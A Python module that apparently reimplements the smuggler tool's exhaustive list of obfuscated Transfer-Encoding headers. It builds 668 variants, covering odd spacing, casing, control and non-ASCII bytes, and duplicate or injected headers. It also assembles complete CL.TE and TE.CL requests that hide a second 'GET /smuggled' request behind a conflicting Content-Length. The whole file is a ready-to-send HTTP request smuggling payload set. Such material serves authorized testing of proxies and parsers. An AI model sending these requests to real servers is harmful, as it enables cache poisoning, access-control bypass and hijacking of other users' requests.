"""Ways to write Transfer-Encoding so that two parsers may disagree about it.

The list is that of defparam/smuggler's `exhaustive` configuration (Evan Custodio, MIT licence), written anew: 28
single ideas, and a byte of each control and non-ASCII value at four places. Its 668 names are kept, so that a result
can be compared with that program's.
"""

from __future__ import annotations

_SINGLE = {
    "nameprefix1": b" Transfer-Encoding: chunked",
    "tabprefix1": b"Transfer-Encoding:\tchunked",
    "tabprefix2": b"Transfer-Encoding\t:\tchunked",
    "spacejoin1": b"Transfer Encoding: chunked",
    "underjoin1": b"Transfer_Encoding: chunked",
    "smashed": b"Transfer Encoding:chunked",
    "space1": b"Transfer-Encoding : chunked",
    "valueprefix1": b"Transfer-Encoding:  chunked",
    "vertprefix1": b"Transfer-Encoding:\x0bchunked",
    "commaCow": b"Transfer-Encoding: chunked, cow",
    "cowComma": b"Transfer-Encoding: cow, chunked",
    "contentEnc": b"Content-Encoding: chunked",
    "linewrapped1": b"Transfer-Encoding:\n chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "aposed": b"Transfer-Encoding: 'chunked'",
    "lazygrep": b"Transfer-Encoding: chunk",
    "sarcasm": b"TrAnSFer-EnCODinG: cHuNkeD",
    "yelling": b"TRANSFER-ENCODING: CHUNKED",
    "0dsuffix": b"Transfer-Encoding: chunked\r",
    "tabsuffix": b"Transfer-Encoding: chunked\t",
    "revdualchunk": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    "0dspam": b"Transfer\r-Encoding: chunked",
    "nested": b"Transfer-Encoding: cow chunked bar",
    "spaceFF": b"Transfer-Encoding:\xffchunked",
    "accentCH": b"Transfer-Encoding: ch\x96nked",
    "accentTE": b"Transf\x82r-Encoding: chunked",
    "x-rout": b"X:X\rTransfer-Encoding: chunked",
    "x-nout": b"X:X\nTransfer-Encoding: chunked",
}
_PLACES = {
    "midspace": b"Transfer-Encoding:%cchunked",
    "postspace": b"Transfer-Encoding%c: chunked",
    "prespace": b"%cTransfer-Encoding: chunked",
    "endspace": b"Transfer-Encoding: chunked%c",
}

MUTATIONS: dict[str, bytes] = _SINGLE | {
    f"{place}-{byte:02x}": line % byte
    for byte in (*range(0x01, 0x20), *range(0x7F, 0x100))
    for place, line in _PLACES.items()
}

_INNER = b"GET /smuggled HTTP/1.1\r\nHost: inner\r\n\r\n"
BODIES = {
    # Content-Length covers all of it; chunked ends before the inner request.
    "CL.TE": (5 + len(_INNER), b"0\r\n\r\n" + _INNER),
    # Content-Length ends before the inner request; chunked covers all of it.
    "TE.CL": (4, b"%x\r\n%b\r\n0\r\n\r\n" % (len(_INNER), _INNER)),
}


def request(line: bytes, direction: str) -> bytes:
    """A whole request with one mutation, and Content-Length to disagree with it."""
    length, body = BODIES[direction]
    return b"POST / HTTP/1.1\r\n%b\r\nHost: outer\r\nContent-Length: %d\r\n\r\n%b" % (line, length, body)
